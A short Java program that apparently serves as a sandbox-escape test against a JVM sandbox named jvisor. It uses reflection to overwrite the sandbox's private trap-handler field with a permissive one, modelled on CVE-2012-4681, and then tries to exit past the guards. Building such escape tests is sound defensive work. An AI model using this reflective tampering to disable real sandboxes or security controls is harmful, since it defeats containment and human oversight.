package escape.hypervisor;

import java.lang.reflect.Field;

/**
 * Overwrites the private static field {@code handler} of jvisor's {@code Traps} with a permissive
 * handler by {@code setAccessible} (a class in an unnamed module is open to every other), then
 * exits through the guards: the CVE-2012-4681 move (reach a private field of the sandbox and
 * switch the sandbox off) aimed at jvisor. Without jvisor the program just exits.
 *
 * <p>Source: CVE-2012-4681, setSecurityManager(null) via sun.awt.SunToolkit.getField,
 * https://nvd.nist.gov/vuln/detail/CVE-2012-4681
 */
public final class ReplaceHandlerField {

    private ReplaceHandlerField() {
    }

    public static void main(String[] args) {
        try {
            Field handler = Class.forName("io.jvisor.hooks.Traps").getDeclaredField("handler");
            handler.setAccessible(true);
            handler.set(null, Permissive.handler(handler.getType()));
            System.out.println("hypervisor-replace-handler-field: Traps.handler is now " + handler.get(null));
        } catch (ClassNotFoundException e) {
            System.out.println("hypervisor-replace-handler-field: no jvisor here (" + e.getMessage() + "); exiting plainly");
        } catch (Throwable t) {
            System.out.println("hypervisor-replace-handler-field: " + t);
        }
        Permissive.exitEveryWay("hypervisor-replace-handler-field");
    }
}
